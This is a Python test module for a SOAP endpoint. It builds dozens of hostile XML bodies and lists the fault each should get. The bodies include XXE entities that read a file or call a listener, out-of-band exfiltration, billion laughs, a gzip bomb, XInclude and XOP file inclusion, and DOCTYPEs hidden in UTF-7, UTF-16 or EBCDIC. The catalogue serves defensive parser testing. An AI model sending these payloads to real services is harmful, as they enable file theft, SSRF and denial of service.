"""XML that bites. Each is a body, its content type and what it is answered with."""

from __future__ import annotations

import gzip
from dataclasses import dataclass

from tests.soap.messages import KEY, NUMBER, SOAP_11, envelope

RING = envelope("IncomingCall", NumFrom=NUMBER, Key=KEY)
INNER = RING.partition("?>")[2]
DTD = "A document type (DTD) is refused."
BIG = "The body is larger than 64 KiB."
ELEMENTS, ATTRIBUTES = "More than 200 elements.", "More than 64 attributes."


@dataclass(frozen=True, kw_only=True)
class Attack:
    body: bytes
    fault: str = ""
    """Text in the fault; empty for a request that is harmless as it is read, and answered with 1."""
    content_type: str = "text/xml"
    encoding: str = ""
    """Content-Encoding."""


def doctype(declarations: str, number: str = "&e;") -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE x {declarations}>{INNER.replace(NUMBER, number)}'.encode()


def inside(xml: str) -> bytes:
    """The request with this in the place of its number."""
    return RING.replace(NUMBER, xml).encode()


def nested(depth: int) -> str:
    return "<a>" * depth + "</a>" * depth


Raw = dict[str, tuple[bytes, str]]
"""Body and text in the fault, by name."""


def attacks(secret_file: str, listener: str) -> dict[str, Attack]:
    """All of them. `secret_file` must not be read, `listener` (host:port) not be called."""
    file, http = f"file://{secret_file}", f"http://{listener}/x"
    raw = {
        **outside_entities(file, http, secret_file),
        **inside_entities(),
        **hidden_document_types(file),
        **floods(),
        **deep_and_huge(),
        **references(file, http),
        **encodings(),
    }
    found = {name: Attack(body=body, fault=fault) for name, (body, fault) in raw.items()}
    zipped = gzip.compress(inside("9" * 20_000_000))
    found["a zip bomb"] = Attack(body=zipped, fault="not in its encoding", encoding="gzip")
    parts = (
        f"--X\r\nContent-Type: application/xop+xml\r\n\r\n{RING.replace(NUMBER, '<i:Include xmlns:i=')}"
        f'"http://www.w3.org/2004/08/xop/include" href="{file}"/>\r\n--X--\r\n'
    )
    multipart = "multipart/related; type=text/xml; start=x; boundary=X"
    found["an attachment from a file"] = Attack(body=parts.encode(), fault="no well-formed", content_type=multipart)
    return found


def outside_entities(file: str, http: str, secret_file: str) -> Raw:
    declarations = {
        "external entity from a file": f'[<!ENTITY e SYSTEM "{file}">]',
        "external entity by http": f'[<!ENTITY e SYSTEM "{http}">]',
        "external entity by a bare path": f'[<!ENTITY e SYSTEM "{secret_file}">]',
        "public external entity": f'[<!ENTITY e PUBLIC "-//x//y" "{http}">]',
        "external DTD from a file": f'SYSTEM "{file}"',
        "external DTD by http": f'SYSTEM "{http}"',
        "public DTD by http": f'PUBLIC "-//x//y" "{http}"',
        "parameter entity from a file": f'[<!ENTITY % p SYSTEM "{file}"> %p;]',
        "parameter entity that sends a file": (
            f'[<!ENTITY % f SYSTEM "{file}"><!ENTITY % d SYSTEM "{http}"> %d; %send;]'
        ),
    }
    return {
        name: (doctype(declared, "&e;" if "ENTITY e " in declared else NUMBER), DTD)
        for name, declared in declarations.items()
    }


def inside_entities() -> Raw:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "empty document type": (doctype("", NUMBER), DTD),
        "internal entity": (doctype('[<!ENTITY e "89235292926">]'), DTD),
        "entity in an attribute": (doctype('[<!ENTITY e "x">]', '1<a b="&e;"/>'), DTD),
        "default attribute": (doctype('[<!ATTLIST NumFrom x CDATA "y">]', NUMBER), DTD),
        "billion laughs": (doctype(f'[<!ENTITY l0 "lol">{laughs}]', "&l9;"), DTD),
        "quadratic blow-up": (doctype(f'[<!ENTITY e "{"x" * 20_000}">]', "&e;" * 9_000), DTD),
        "entity that contains itself": (doctype('[<!ENTITY e "&f;"><!ENTITY f "&e;">]'), DTD),
        "parameter entity that contains itself": (doctype('[<!ENTITY % p "&#37;p;"> %p;]', NUMBER), DTD),
        "unknown entity": (inside("&nbsp;"), "no well-formed XML"),
    }


def hidden_document_types(file: str) -> Raw:
    plain = doctype(f'[<!ENTITY e SYSTEM "{file}">]').decode()
    seven = b'<?xml version="1.0" encoding="utf-7"?>' + plain.encode("utf-7")
    return {
        "document type in UTF-16": (plain.encode("utf-16"), DTD),
        "document type in UTF-16 without a mark": (plain.encode("utf-16-be"), DTD),
        "document type in UTF-7": (seven, "The encoding 'utf-7' is not read here"),
        "document type in EBCDIC": (plain.encode("cp037"), "The body is not in its encoding, UTF-8."),
        "document type in UTF-32": (plain.encode("utf-32"), DTD),
        "document type after a comment": (b"<!-- " + b"x" * 5000 + b" -->" + doctype("", NUMBER)[21:], DTD),
    }


def floods() -> Raw:
    def attributes(count: int, pattern: str) -> bytes:
        return inside("<a " + " ".join(pattern.format(n) for n in range(count)) + "/>")

    return {
        "100,000 attributes": (attributes(100_000, 'a{}="1"'), BIG),
        "6,500 attributes in 64 KiB": (attributes(6_500, 'a{}=""'), ATTRIBUTES),
        "980 attributes": (attributes(980, 'a{}=""'), ATTRIBUTES),
        "4,000 namespaces": (attributes(4_000, 'xmlns:n{}=""'), ATTRIBUTES),
        "one attribute twice": (inside('<a b="" b=""/>'), "no well-formed XML"),
        "500,000 children": (inside("<a/>" * 500_000), BIG),
        "16,000 children in 64 KiB": (inside("<a/>" * 16_000), ELEMENTS),
        "9,000 comments": (inside("<!---->" * 9_000), ELEMENTS),
        "12,000 instructions": (inside("<?a?>" * 12_000), ELEMENTS),
    }


def deep_and_huge() -> Raw:
    return {
        "depth of 100,000": (inside(nested(100_000)), BIG),
        "depth of 9,000 in 64 KiB": (inside(nested(9_000)), ELEMENTS),
        "depth of 180": (inside(nested(180)), "nested more than 32 deep"),
        "tags that never end": (inside("<a>" * 20_000), ELEMENTS),
        "huge text": (inside("9" * 20_000_000), BIG),
        "huge name": (inside(f"<{'a' * 60_000}/>"), "no well-formed XML"),
        "huge comment": (inside(f"<!--{'-x' * 30_000}-->"), ""),
        "huge CDATA": (inside(f"<![CDATA[{'<' * 60_000}]]>"), ELEMENTS),
    }


def references(file: str, http: str) -> Raw:
    xinclude = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    schema = 'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="http://VATS'
    ring = RING.replace("<NumFrom>", '<NumFrom href="#b" id="a">').replace("<Key>", '<Key id="b" href="#a">')
    reply_to = '<w:ReplyTo xmlns:w="http://www.w3.org/2005/08/addressing"><w:Address>'
    header = f"<soap:Header>{reply_to}{http}</w:Address></w:ReplyTo></soap:Header><soap:Body>"
    return {
        "XInclude of a file": (inside(f'<xi:include {xinclude} href="{file}" parse="text"/>'), ""),
        "XInclude by http": (inside(f'<xi:include {xinclude} href="{http}"/>'), ""),
        "schema by http": (RING.replace("<NumFrom>", f'<NumFrom {schema} {http}">').encode(), ""),
        "style sheet by http": (f'<?xml-stylesheet type="text/xsl" href="{http}"?>{INNER}'.encode(), ""),
        "base by http": (RING.replace("<NumFrom>", f'<NumFrom xml:base="{http}" href="x">').encode(), ""),
        "references in a ring": (ring.encode(), ""),
        "addressing by http": (RING.replace("<soap:Body>", header).encode(), ""),
        "an envelope in an envelope": (inside(f'<e:Envelope xmlns:e="{SOAP_11}"><e:Body/></e:Envelope>'), ""),
    }


def encodings() -> Raw:
    def key(raw: bytes) -> bytes:
        return RING.encode().replace(KEY.encode(), raw)

    newer = RING.replace('version="1.0"', 'version="1.1"').replace(KEY, "&#1;").encode()
    return {
        "invalid UTF-8": (key(b"\xff\xfe\xfd"), "not in its encoding, UTF-8"),
        "overlong UTF-8": (key(b"\xc0\xbc"), "not in its encoding, UTF-8"),
        "half a surrogate in UTF-16": (RING.encode("utf-16") + b"\x00\xd8", "not in its encoding, UTF-16"),
        "NUL bytes": (key(b"\x00\x00"), ""),
        "NUL as a character": (inside("&#0;"), "no well-formed XML"),
        "an encoding that is no encoding": (RING.replace('"utf-8"', '"zlib"').encode(), "The encoding 'zlib'"),
        "XML 1.1": (newer, "no well-formed XML"),
    }
